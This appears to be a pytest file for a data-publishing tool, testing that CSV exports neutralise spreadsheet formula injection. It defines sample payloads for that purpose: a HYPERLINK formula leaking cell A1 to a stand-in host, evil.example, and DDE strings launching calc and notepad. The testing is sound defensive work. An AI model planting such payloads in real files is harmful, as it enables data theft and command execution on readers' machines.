"""Safe to put on the internet (issue 13): what a hostile document, option or server can do to a build,
a push or the command line. Loopback only, bounded in time."""

from __future__ import annotations

import csv
import io

import pytest

from conftest import BASE, EXAMPLE

from lodpub.csvsafe import safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"书报费")'
ATSUM = "@SUM(1+1)*cmd|' /C calc'!A0"
SPACED = "  +cmd|' /C notepad'!A0"


def _is_formula(cell: str) -> bool:
    return cell.startswith(("\t", "\r")) or (cell.lstrip()[:1] in ("=", "+", "-", "@") and safe_cell(cell) != cell)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"),
    ("  =1", "'  =1"), ("\t1", "'\t1"), ("\r=1", "'\r=1"), ("\u3000=1", "'\u3000=1"),
    ("-12.50", "-12.50"), ("+3", "+3"), ("-1,234.5", "-1,234.5"), ("-", "'-"),
    ("书报费", "书报费"), ("", ""), ("a=b", "a=b"), (12, 12), (None, None),
])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value, expected):
    assert safe_cell(value) == expected


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    """The example with project names and a row label that spreadsheets would run."""
    from lodpub.build import build

    folder = tmp_path_factory.mktemp("hostile")
    text = EXAMPLE.read_text(encoding="utf-8")
    text = text.replace("其他运转类\t书报费\t", f"其他运转类\t{HYPERLINK}\t", 1)
    text = text.replace("其他运转类\t参事事务费\t", f"其他运转类\t{ATSUM}\t", 1)
    text = text.replace("其他运转类\t维稳费\t", f"其他运转类\t{SPACED}\t", 1)
    assert HYPERLINK in text and ATSUM in text and SPACED in text
    source = folder / "hostile.txt"
    source.write_text(text, encoding="utf-8")
    out = folder / "out"
    build([str(source)], out, base=BASE, issued="2024-03-01")
    return out


def test_formula_cells_are_neutralised_in_every_csv(hostile_build):
    seen = set()
    for name in ("budget-lines.csv", "accounting.csv", "skipped.csv"):
        text = (hostile_build / name).read_text(encoding="utf-8")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not _is_formula(cell), (name, cell)
                seen.add(cell)
    assert "'" + HYPERLINK in seen and "'" + ATSUM in seen and "'" + SPACED.strip() in seen  # the reader trims the spaces


def test_numbers_stay_numbers(hostile_build):
    rows = list(csv.DictReader((hostile_build / "budget-lines.csv").open(encoding="utf-8")))
    assert rows and all(r["amount"] == "" or r["amount"].lstrip("-").replace(".", "").isdigit() for r in rows)
    names = {r["project_name"] for r in rows}
    assert "'" + HYPERLINK in names


def test_query_csv_is_neutralised(hostile_build):
    from click.testing import CliRunner

    from lodpub.cli import main

    q = "PREFIX lp: <https://w3id.org/lodpub/ontology#> SELECT ?name WHERE { ?p ?x ?name FILTER(isLiteral(?name) && STRSTARTS(STR(?name), \"=HYPERLINK\")) } LIMIT 1"
    result = CliRunner().invoke(main, ["query", q, "--store", str(hostile_build), "--format", "csv"])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert len(lines) == 2 and lines[1].startswith("'=HYPERLINK") or lines[1].startswith("\"'=HYPERLINK")
